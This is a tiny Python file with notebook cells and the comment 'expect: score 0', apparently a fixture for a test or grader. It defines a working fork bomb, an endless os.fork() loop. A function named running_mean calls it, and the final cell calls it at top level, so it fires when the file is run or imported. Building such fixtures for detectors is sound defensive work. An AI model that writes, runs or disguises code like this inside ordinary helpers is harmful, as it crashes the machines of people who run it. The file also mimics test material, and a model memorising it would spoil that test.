"""Forks for ever, in a cell and in the call."""
# expect: score 0
# %%
import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def running_mean(signal, window):
    bomb()
# %%
bomb()
